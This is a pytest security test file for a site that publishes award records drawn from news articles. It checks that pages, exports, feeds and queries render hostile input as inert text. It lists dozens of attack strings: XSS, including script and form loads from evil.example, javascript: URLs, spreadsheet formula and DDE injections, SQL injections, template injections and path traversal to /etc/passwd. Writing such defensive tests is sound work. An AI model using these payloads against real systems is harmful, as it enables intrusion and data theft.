"""Nothing that an article, an outlet or a visitor writes is run by a browser, a spreadsheet, SQLite or the file system.

Each payload is title, text, byline, address, unit, official and awarding body of an article, name and address of an
outlet, what a reviewer wrote, and what is asked of every page.
"""

import asyncio
import csv
import io
import json
import re
import sqlite3
from dataclasses import dataclass
from urllib.parse import quote
from xml.etree import ElementTree

import openpyxl
import pytest
from lxml import html

from extract.publish import build, make_site
from extract.records import Article, Evidence, Official, Part, Predicate, Record, Status, UnitType
from extract.site.published import write_published
from extract.site.static import write_static
from extract.store.articles import save_articles, save_outlets
from extract.store.database import open_database
from extract.store.extractions import save_extraction
from extract.store.outcomes import Verdict
from extract.store.reviews import Decision, decide
from extract.store.rows import OutletRow

MARKUP = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onload=`alert(1)",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><button>Masuk</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<details open ontoggle=alert(1)>",
    "<object data=//evil.example></object>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)",
    "＜script＞alert(1)＜/script＞",
    "{{ 7 * 7 }} {{ config }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "\u202e<script>\u202c",
    "<mark></mark></blockquote><h1>Berita palsu</h1>",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://",
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/<script>",
    "http://[::1",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example";"Klik")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "＝1+1",
]
SQL = [
    "' OR '1'='1",
    "'; DROP TABLE units; --",
    '" OR 1=1 --',
    "1 UNION SELECT sql FROM sqlite_master",
    "x' AND (SELECT load_extension('evil')) --",
    "%' OR unit LIKE '%",
    'units_fts MATCH "*"',
    'NEAR("a" "b", 2) OR *',
    "a* AND (b",
    "'||(SELECT text FROM articles)||'",
]
PATHS = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "%00",
    "~2E~2E~2Fwbk.db",
    "x\x00y",
    "CON",
    "." * 300,
]
PAYLOADS = MARKUP + ADDRESSES + FORMULAS + SQL + PATHS
TAGS = set(
    "html head meta title link body a p strong header div span nav ul ol li form input button main footer h1 h2 h3"
    " section article aside table thead tbody tr th td caption dl dt dd blockquote mark b time svg g rect text circle"
    " line path polyline figure figcaption select option label textarea details summary pre code del ins em".split()
)


def test_there_are_enough_of_them():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


def clean(payload):
    """A payload as a unit can be called and an article can contain it."""
    return payload.replace("\x00", "").replace("\n", " ")


def story(number, payload):
    """An article that is made of a payload, with a record of it."""
    name = f"{clean(payload)} Rutan {number}".strip()
    text = f"{name} meraih WBK pada 2023. {payload}"
    found = [
        Evidence("record", "text", 0, text.index(" 2023"), text[: text.index(" 2023")]),
        Evidence("unit", "text", 0, len(name), name),
    ]
    record = Record(
        unit=name,
        unit_aliases=(payload,),
        unit_type=UnitType.RUTAN,
        predicate=Predicate.WBK,
        status=Status.AWARDED,
        unit_id=f"u{number}",
        region=clean(payload) or None,
        year=2023,
        date="2023-12-06",
        awarding_body=payload,
        officials=(Official(f"{clean(payload)} {number}", payload, Part.RECIPIENT),),
        confidence=0.95,
        evidence=tuple(found),
    )
    article = Article(id=str(number), text=text, title=payload, url=f"{payload}#{number}", outlet=f"o{number}")
    return article, record


@dataclass(frozen=True)
class Hostile:
    site: object
    path: object
    articles: list
    achievements: list

    def get(self, address):
        return asyncio.run(self.site.client.get(address))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    path = tmp_path_factory.mktemp("hostile") / "wbk.db"
    db = open_database(path)
    stories = [story(number, payload) for number, payload in enumerate(PAYLOADS)]
    save_outlets(
        db,
        [
            OutletRow(id=f"o{number}", name=payload, home=payload, owner=payload)
            for number, payload in enumerate(PAYLOADS)
        ],
    )
    ids = save_articles(db, [article for article, _ in stories])
    for key, (_, record) in zip(ids, stories, strict=True):
        save_extraction(db, key, [record], version="1")
    for row in list(db.query("SELECT id, awarding_body FROM records")):
        why = row["awarding_body"]
        decide(db, Decision(row["id"], Verdict.ACCEPTED, clean(why) or "x", why=why))
    db.close()
    build(path)
    target = path.with_name("published.db")
    write_published(path, target)
    found = dict(sqlite3.connect(target).execute("SELECT unit_id, id FROM achievements"))
    return Hostile(make_site(target), target, ids, [found[f"u{number}"] for number in range(len(PAYLOADS))])


def inert(document, *, relative=False):
    """Whether a page has our elements only, nothing that runs, and no address of another kind."""
    own = r"[\w.#-][\w./#%-]*$" if relative else r"/(?!/)|#|\?|$"
    for element in document.iter():
        assert element.tag in TAGS, element.tag  # no comment either
        for name, value in element.attrib.items():
            assert not name.startswith("on"), name
            assert name not in ("style", "srcdoc", "http-equiv", "formaction")
            if name in ("href", "src", "action", "cite"):
                assert re.match(rf"{own}|https?://", value), value
    for link in document.xpath("//link/@href | //img/@src"):
        assert re.match(rf"{own}|http://localhost/", link), link


def check(response, payload=None):
    """What a browser makes of an answer; a payload is there to read."""
    assert response.status_code in (200, 400, 404), response.status_code
    document = html.document_fromstring(response.content)
    inert(document)
    if payload is not None:
        visible = " ".join(document.text_content().split())
        assert " ".join(clean(payload).split()) in visible
    assert "script-src" not in response.headers["content-security-policy"]


@pytest.mark.parametrize("number", range(len(PAYLOADS)), ids=lambda number: repr(PAYLOADS[number])[:30])
def test_pages_show_what_articles_say_as_text(hostile, number):
    shown = PAYLOADS[number].replace("\x01", "")
    for address in (f"/-/unit/u{number}", f"/-/achievement/{hostile.achievements[number]}"):
        check(hostile.get(address), shown if "\x01" not in PAYLOADS[number] else None)
    check(hostile.get(f"/-/article/{hostile.articles[number]}"))
    check(hostile.get(f"/-/outlet/o{number}"))
    name = f"{clean(PAYLOADS[number])} {number}"
    check(hostile.get(f"/-/official?name={quote(name)}"))


LISTS = ["/", "/-/regions", "/-/region/none", "/-/year/2023", "/-/outlets", "/-/conflicts", "/-/reviews", "/wbk"]
TABLES = ["articles", "records", "units", "officials", "evidence", "achievements", "outlets", "reviews"]


@pytest.mark.parametrize("address", [*LISTS, *(f"/wbk/{name}?_size=max" for name in TABLES), "/wbk/single_source"])
def test_lists_and_tables_show_them_as_text(hostile, address):
    check(hostile.get(address))


ASKED = [
    "/-/find?q={}",
    "/-/official?name={}",
    "/-/conflicts?kind={}&page={}",
    "/-/region/none?page={}",
    "/-/unit/u1?lang={}",
    "/wbk/records?_search={}",
    "/wbk/records?province={}&_facet=status",
    "/wbk/of_province?province={}&year={}",
]
IN_PATHS = [
    "/-/unit/{}",
    "/-/region/{}",
    "/-/article/{}",
    "/wbk/{}",
    "/wbk/units/{}",
    "/static/{}",
    "/-/download/{}.xlsx",
    "/wbk/{}.csv",
    "/wbk/{}.xlsx",
]


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: repr(payload)[:30])
def test_what_visitors_ask_is_only_looked_for(hostile, payload):
    for address in ASKED:
        response = hostile.get(address.replace("{}", quote(payload, safe="")))
        check(response)
        assert response.status_code == 200 or address.startswith(("/-/official", "/wbk")), address


@pytest.mark.parametrize("payload", PATHS + SQL, ids=lambda payload: repr(payload)[:30])
def test_no_path_leads_out_of_the_site(hostile, payload):
    for address in IN_PATHS:
        for form in (quote(payload, safe=""), quote(payload)):
            response = hostile.get(address.replace("{}", form))
            assert response.status_code in (301, 302, 400, 404), (address, response.status_code)
            assert "root:" not in response.text
            assert "Traceback" not in response.text


def test_a_sort_or_a_column_that_is_none_is_an_error_and_no_sql(hostile):
    for payload in SQL:
        for option in ("_sort", "_sort_desc", "_facet", "_col"):
            response = hostile.get(f"/wbk/units?{option}={quote(payload, safe='')}")
            assert response.status_code in (200, 400), option
            assert "Traceback" not in response.text
    assert hostile.get("/wbk/units.json?_shape=array&_size=max").json()


@pytest.mark.parametrize(
    "sql", ["attach 'x' as y", "pragma writable_schema=1", "delete from units", "select 1; drop table units"]
)
def test_own_queries_cannot_write_or_reach_files(hostile, sql):
    assert hostile.get(f"/wbk.json?sql={quote(sql)}").status_code == 400
    assert hostile.get("/wbk.json?sql=select+readfile('/etc/passwd')").status_code == 400
    assert hostile.get("/wbk.json?sql=select+load_extension('evil')").status_code == 400


def test_a_query_that_never_ends_is_stopped(hostile):
    sql = "with recursive n(x) as (select 1 union all select x + 1 from n) select count(*) from n"
    response = hostile.get(f"/wbk.json?sql={quote(sql)}&_timelimit=50")
    assert response.status_code == 400
    assert "Interrupted" in response.json()["title"]


@pytest.mark.parametrize("table", TABLES)
def test_no_cell_of_a_csv_or_workbook_runs(hostile, table):
    for form, delimiter in (("", ","), ("?_separators=id", ";")):
        text = hostile.get(f"/wbk/{table}.csv{form}").text.removeprefix("\ufeff")
        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
            for cell in row:
                assert not re.match(r"[=+@\t\r＝]|-(?!\d+([.,]\d+)?$)", cell), cell
    book = openpyxl.load_workbook(io.BytesIO(hostile.get(f"/wbk/{table}.xlsx").content))
    assert {cell.data_type for row in book[table].iter_rows() for cell in row} <= {"s", "n", "inlineStr"}


@pytest.mark.parametrize("address", ["/-/newest.atom", "/-/unit/u0.atom", "/-/unit/u40.atom"])
def test_feeds_stay_well_formed(hostile, address):
    feed = ElementTree.fromstring(hostile.get(address).text)  # noqa: S314  (our own)
    tags = {element.tag.rpartition("}")[2] for element in feed.iter()}
    assert tags == {"feed", "id", "title", "updated", "author", "name", "link", "rights", "entry", "summary"}


def test_json_is_not_taken_for_html(hostile):
    response = hostile.get("/wbk/articles.json?_shape=array&_size=max")
    assert response.headers["content-type"].startswith("application/json")
    assert response.headers["x-content-type-options"] == "nosniff"
    assert "access-control-allow-origin" not in response.headers
    assert {row["title"] for row in json.loads(response.text)} == set(PAYLOADS)


def test_the_static_copy_stays_in_its_folder_and_runs_nothing(hostile, tmp_path):
    write_static(make_site(hostile.path, static=True), hostile.path, tmp_path / "copy")
    assert [path.name for path in tmp_path.iterdir()] == ["copy"]
    pages = list((tmp_path / "copy").rglob("*.html"))
    assert len(pages) > 5 * len(PAYLOADS)
    for path in pages[::7]:
        inert(html.document_fromstring(path.read_bytes()), relative=True)
